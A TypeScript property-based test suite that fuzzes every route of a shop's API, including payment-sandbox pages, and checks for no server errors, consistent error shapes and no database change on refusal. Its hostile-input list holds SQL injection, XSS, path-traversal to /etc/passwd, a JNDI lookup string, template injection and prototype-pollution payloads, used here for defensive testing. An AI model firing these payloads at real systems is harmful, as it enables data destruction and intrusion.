import fc from 'fast-check';
import { createTestApp, type TestContext } from './harness';
import { exampleOf, fillPath, label, routeOperations, type RouteOperation } from './openapi';
import { databaseSnapshot, populateShop } from './populated-shop';

/**
 * Random and hostile input on every route of the OpenAPI document (path, query, body; with and without a
 * token): never a 5xx, every refusal in the error shape, and a refused request changes nothing in the
 * database. Seeded, so a failure replays exactly.
 */

const SEED = Number(process.env.BAD_INPUT_SEED ?? 20_261_122);
const RUNS_PER_ROUTE = Number(process.env.BAD_INPUT_RUNS ?? 25);

/**
 * Routes whose refusals follow another party's protocol, not the shop's error shape: the payment providers'
 * merchant APIs (each provider fixes its own answer format) and the sandbox payment and receipt pages (HTML
 * for a browser). They are still held to no 5xx and no change on a refusal, and to their own format's type.
 */
const OTHER_PROTOCOLS: Array<[RegExp, RegExp]> = [
  [/^POST \/api\/payments\//, /^application\/json/],
  [/^(GET|POST) \/sandbox\/(payme|click|uzum)(\/cabinet)?$/, /^text\/html/],
  [/^GET \/sandbox\/(click\/)?(refund-)?receipt\//, /^text\/html/],
  [/^GET \/sandbox\/telegram\/(app|oauth)$/, /^text\/html/],
];

const HOSTILE_STRINGS = [
  "' OR '1'='1",
  "1; DROP TABLE customers; --",
  "Robert'); DELETE FROM orders; --",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '\u202Egnp.exe', // right-to-left override
  'a\u200Bb\u200C\u200D\uFEFF', // zero-width characters
  '👩‍👩‍👧‍👦🇺🇿🔥',
  'مرحبا بالعالم',
  'Ўзбекистон Ғ ғ Қ қ',
  '\u0000',
  'nul\u0000inside',
  '\uD800', // a lone surrogate
  '../../../../etc/passwd',
  '%2e%2e%2f%00',
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '__proto__',
  'NaN',
  'Infinity',
  '-1',
  '1e309',
  '0x1F',
  ' 42 ',
  '',
  ' ',
  'null',
  'true',
  '[]',
  '{}',
  '+998901234567',
  '1995-02-30',
  'x'.repeat(10_000),
  'я'.repeat(70_000), // more than 128 KB in UTF-8
];

const HOSTILE_NUMBERS = [-1, 0, -0, 0.5, -2_147_483_649, 2_147_483_648, 9_007_199_254_740_993, 1e308, -1e308, 5e-324];

const hostileScalar = fc.oneof(
  fc.constantFrom<unknown>(...HOSTILE_STRINGS),
  fc.constantFrom<unknown>(...HOSTILE_NUMBERS),
  fc.constantFrom<unknown>(true, false, null),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 20 }),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: hostileScalar },
  { weight: 1, arbitrary: fc.array(hostileScalar, { maxLength: 4 }) }, // an array for a scalar
  { weight: 1, arbitrary: fc.dictionary(fc.string({ maxLength: 8 }), hostileScalar, { maxKeys: 3 }) },
  { weight: 1, arbitrary: fc.constantFrom<unknown>({ __proto__: { admin: true } }, { constructor: { prototype: { x: 1 } } }, [[[[[]]]]], Array.from({ length: 1000 }, (_v, i) => i)) },
);

/** A path segment: hostile text, or an id that may or may not exist. */
const pathValue = fc.oneof(
  fc.constantFrom<unknown>(...HOSTILE_STRINGS.filter((text) => text.length < 200 && text !== '')),
  fc.constantFrom<unknown>(...HOSTILE_NUMBERS),
  fc.integer({ min: 1, max: 12 }),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 30 }),
);

type Auth = 'none' | 'customer' | 'staff';

interface Shot {
  auth: Auth;
  path: Record<string, unknown>;
  query: Array<[string, unknown]>;
  body: { kind: 'none' } | { kind: 'raw'; text: string; contentType: string } | { kind: 'json'; value: unknown };
}

let context: TestContext;
/** Valid values by field name: a mutated request starts valid, so it gets past validation into the services. */
let valid: Record<string, unknown>;
let headers: Record<Auth, Record<string, string>>;
let snapshot: () => Promise<string>;

beforeAll(async () => {
  context = await createTestApp();
  ({ valid, headers } = await populateShop(context));
  snapshot = await databaseSnapshot(context.db);
}, 60_000);
afterAll(() => context.close());

function shotsFor(operation: RouteOperation): fc.Arbitrary<Shot> {
  const auth = fc.constantFrom<Auth>('none', 'customer', 'customer', 'staff');
  const path = fc.record(
    Object.fromEntries(operation.pathParams.map((param) => [param.name, fc.oneof(pathValue, fc.constant(valid[param.name] ?? exampleOf(param.schema)))])),
  );
  const knownQuery = operation.queryParams.map((param) => param.name);
  const query = fc.array(
    fc.tuple(fc.oneof(fc.constantFrom(...(knownQuery.length ? knownQuery : ['page'])), fc.string({ maxLength: 10 })), hostileValue),
    { maxLength: 4 },
  );
  const base = operation.body ? (exampleOf(operation.body, valid) as Record<string, unknown>) : {};
  const fields = Object.keys(operation.body?.properties ?? {});
  const jsonBody = fc.oneof(
    // One field replaced by something hostile, or removed, or an unknown one added.
    fc.tuple(fc.constantFrom(...(fields.length ? fields : ['x'])), hostileValue, fc.constantFrom('replace', 'remove', 'extra')).map(([field, value, how]) => {
      const body: Record<string, unknown> = { ...base };
      if (how === 'replace') body[field] = value;
      else if (how === 'remove') delete body[field];
      else body[`${field}Extra`] = value;
      return { kind: 'json' as const, value: body };
    }),
    fc.dictionary(fc.constantFrom(...fields, 'admin', '__proto__', 'constructor'), hostileValue, { maxKeys: 5 }).map((value) => ({ kind: 'json' as const, value: { ...base, ...value } })),
    hostileValue.map((value) => ({ kind: 'json' as const, value })),
  );
  const rawBody = fc.constantFrom(
    { kind: 'raw' as const, text: '{"a":', contentType: 'application/json' },
    { kind: 'raw' as const, text: '<?xml version="1.0"?><a/>', contentType: 'application/xml' },
    { kind: 'raw' as const, text: 'a=1&b=2', contentType: 'application/x-www-form-urlencoded' },
    { kind: 'raw' as const, text: '--x\r\nContent-Disposition: form-data; name="image"\r\n\r\nabc\r\n--x--', contentType: 'multipart/form-data; boundary=x' },
    { kind: 'raw' as const, text: '\u0000\u0001\u0002', contentType: 'application/octet-stream' },
  );
  const body = operation.method === 'GET' ? fc.constant({ kind: 'none' as const }) : fc.oneof({ weight: 5, arbitrary: jsonBody }, { weight: 1, arbitrary: rawBody }, { weight: 1, arbitrary: fc.constant({ kind: 'none' as const }) });
  return fc.record({ auth, path, query, body });
}

function toText(value: unknown): string {
  return typeof value === 'string' ? value : JSON.stringify(value) ?? '';
}

async function send(operation: RouteOperation, shot: Shot) {
  const path = fillPath(operation.path, Object.fromEntries(Object.entries(shot.path).map(([key, value]) => [key, toText(value)])));
  const search = new URLSearchParams(shot.query.map(([key, value]) => [key, toText(value)])).toString();
  const base = { method: operation.method, url: search ? `${path}?${search}` : path };
  if (shot.body.kind === 'none') return context.app.inject({ ...base, headers: headers[shot.auth] });
  if (shot.body.kind === 'raw') {
    return context.app.inject({ ...base, headers: { ...headers[shot.auth], 'content-type': shot.body.contentType }, payload: shot.body.text });
  }
  return context.app.inject({ ...base, headers: { ...headers[shot.auth], 'content-type': 'application/json' }, payload: JSON.stringify(shot.body.value) ?? 'null' });
}

describe('hostile input on every route', () => {
  it('never gets a 5xx, is refused in the error shape, and a refusal changes nothing', async () => {
    const operations = routeOperations(context.app);
    expect(operations.length).toBeGreaterThan(40);
    const failures: string[] = [];
    let last = await snapshot();
    let requests = 0;
    for (const [index, operation] of operations.entries()) {
      const protocol = OTHER_PROTOCOLS.find(([route]) => route.test(label(operation)))?.[1];
      try {
        await fc.assert(
          fc.asyncProperty(shotsFor(operation), async (shot) => {
            const response = await send(operation, shot);
            requests += 1;
            const now = await snapshot();
            const before = last;
            last = now;
            if (response.statusCode >= 500) throw new Error(`answered ${response.statusCode}: ${response.body.slice(0, 300)}`);
            if (response.statusCode >= 400) {
              const contentType = response.headers['content-type']?.toString() ?? '';
              const json = contentType.startsWith('application/json') ? (response.json() as { error?: { code?: unknown; message?: unknown } }) : undefined;
              const inShape = typeof json?.error?.code === 'string' && typeof json.error.message === 'string';
              // A body the shop refuses before the route sees it (bad JSON) is in the shop's shape there too.
              if (!inShape && !protocol?.test(contentType)) {
                throw new Error(`answered ${response.statusCode} outside the error shape: ${response.body.slice(0, 300)}`);
              }
              if (now !== before) throw new Error(`answered ${response.statusCode} ${response.body.slice(0, 200)} but changed the database`);
            }
          }),
          // A seed per route (in document order) so routes see different values; still the same every run.
          { seed: SEED + index, numRuns: RUNS_PER_ROUTE, endOnFailure: true },
        );
      } catch (error) {
        // fast-check keeps the property's own error as the cause; the message holds the counterexample.
        const counterexample = (error as Error).message.split('\n').find((line) => line.startsWith('Counterexample')) ?? '';
        const cause = (error as Error).cause instanceof Error ? ((error as Error).cause as Error).message : String((error as Error).cause ?? error);
        failures.push(`${label(operation)}: ${cause.slice(0, 400)} | ${counterexample.slice(0, 700)}`);
      }
    }
    expect(requests).toBeGreaterThan(operations.length * 5);
    expect(failures).toEqual([]);
  }, 120_000);
});
